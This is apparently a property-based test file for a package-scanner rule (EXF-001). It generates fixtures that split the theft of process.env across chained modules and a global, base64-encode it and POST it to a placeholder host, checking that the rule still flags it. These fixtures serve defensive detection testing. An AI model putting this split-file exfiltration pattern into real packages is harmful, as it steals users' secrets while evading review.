import { describe, expect, it } from '@jest/globals';
import { pluginFiles } from '@ragnos-vault/testing';
import fc from 'fast-check';
import { inspect } from './inspect.ts';
import { isAtLeast } from './severity.ts';

/** So little is linked here that a few files of padding are too much. */
const LIMIT = 4000;

/** A theft in pieces; each takes `from` what the piece before it exports. */
const PIECES: readonly ((from: string) => string)[] = [
  () => `exports.v = process.env;`,
  (from) => `exports.v = ${from}.v;`,
  (from) => `exports.v = JSON.stringify(${from}.v);`,
  (from) => `exports.v = Buffer.from(${from}.v).toString('base64');`,
  (from) => `fetch('https://a.example.invalid/', { method: 'POST', body: ${from}.v });`,
];

/** How one file says which other it loads. */
const LOADS: readonly ((name: string) => string)[] = [
  (name) => `require('./${name}')`,
  (name) => `require('./${name}.js')`,
  (name) => `require('./' + '${name}')`,
  (name) => `require(['.', '${name}'].join('/'))`,
  (name) => `require(__dirname + '/${name}')`,
];

const chain = fc
  .tuple(
    fc.shuffledSubarray(['k', 'm', 'n', 'p', 'q'], { minLength: 5 }),
    fc.array(fc.nat(), { minLength: 5, maxLength: 5 }),
  )
  .map(([names, loads]) =>
    Object.fromEntries(
      PIECES.map((piece, index) => {
        const load = LOADS[(loads[index] ?? 0) % LOADS.length]?.(names[index - 1] ?? '') ?? '';
        return [`${names[index] ?? ''}.js`, piece(load)] as const;
      }),
    ),
  );

const busy = `require('https').get('https://b.example.invalid/'); require('fs').readFileSync('x'); exports.v = Buffer.from('a');`;
const padding = fc.dictionary(
  fc.stringMatching(/^[a-z]{1,3}$/).map((name) => `${name}x`),
  fc.record({ length: fc.nat({ max: 3000 }), isBusy: fc.boolean(), loads: fc.boolean() }),
  { maxKeys: 8 },
);

type Sketch = Readonly<Record<string, string>>;
const isGrave = (files: Sketch): boolean =>
  inspect(pluginFiles({ 'package.json': '{"main":"q.js"}', ...files }), LIMIT)
    .collector.findings()
    .some(({ rule, severity }) => rule === 'EXF-001' && isAtLeast(severity, 'high'));

describe('linking', () => {
  it('follows a chain through the files of a package however much else there is', () => {
    fc.assert(
      fc.property(chain, padding, (files, pad) => {
        const added = Object.entries(pad).map(([name, { length, isBusy, loads }]) => {
          const load = loads ? `require('./${Object.keys(pad)[0] ?? ''}');` : '';
          return [`${name}.js`, `${load}${isBusy ? busy : ''}// ${'x'.repeat(length)}`] as const;
        });
        expect(isGrave(files)).toBe(true);
        expect(isGrave({ ...Object.fromEntries(added), ...files })).toBe(true);
      }),
      { numRuns: 150 },
    );
  });

  it('follows it through what is tied to it and does nothing', () => {
    fc.assert(
      fc.property(chain, padding, (files, pad) => {
        const names = Object.keys(pad);
        const added = Object.entries(pad).map(
          ([name, { length }]) => [`${name}.js`, `// ${'x'.repeat(length)}`] as const,
        );
        const loads = names.map((name) => `require('./${name}');`).join('');
        const tied = Object.entries(files).map(([path, text]) => [path, loads + text] as const);
        expect(isGrave({ ...Object.fromEntries(added), ...Object.fromEntries(tied) })).toBe(true);
      }),
      { numRuns: 150 },
    );
  });

  it('follows what goes by a global', () => {
    fc.assert(
      fc.property(padding, (pad) => {
        const files = {
          'a.js': `globalThis.held = process.env;`,
          'b.js': `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(global.held) });`,
        };
        const added = Object.entries(pad).map(
          ([name, { length }]) => [`${name}.js`, `// ${'x'.repeat(length)}`] as const,
        );
        expect(isGrave({ ...files, ...Object.fromEntries(added) })).toBe(true);
      }),
      { numRuns: 60 },
    );
  });
});
